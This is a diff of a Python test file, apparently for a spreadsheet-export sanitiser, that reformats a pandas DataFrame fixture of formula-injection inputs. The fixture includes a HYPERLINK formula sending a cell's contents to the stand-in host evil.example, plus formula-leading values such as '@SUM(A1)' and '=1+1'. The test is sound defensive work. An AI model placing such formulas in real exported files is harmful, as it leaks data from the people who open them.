@@ -17,14 +17,16 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
 
 
 def hostile() -> pd.DataFrame:
-    return pd.DataFrame({
-        "entity_id": ["H1", "H2", "H3", "H4", "H5", "H6", "H7"],
-        "region": [EVIL, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "north"],
-        "grade": pd.Categorical(["=1+1", "A", "A", "B", "B", "C", "D"]),
-        "amount_at_risk": [-3.5, 0.0, 1.0, -1e9, 2.0, np.nan, 3.0],
-        "rule_hits": [-1, 0, 1, 2, 3, 4, 5],
-        "note": [None, "a - b", "=", "", "ok", "x=1", "'quoted"],
-    })
+    return pd.DataFrame(
+        {
+            "entity_id": ["H1", "H2", "H3", "H4", "H5", "H6", "H7"],
+            "region": [EVIL, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "north"],
+            "grade": pd.Categorical(["=1+1", "A", "A", "B", "B", "C", "D"]),
+            "amount_at_risk": [-3.5, 0.0, 1.0, -1e9, 2.0, np.nan, 3.0],
+            "rule_hits": [-1, 0, 1, 2, 3, 4, 5],
+            "note": [None, "a - b", "=", "", "ok", "x=1", "'quoted"],
+        }
+    )
 
 
 def test_text_cells_that_would_run_are_quoted_and_numbers_are_left_alone():
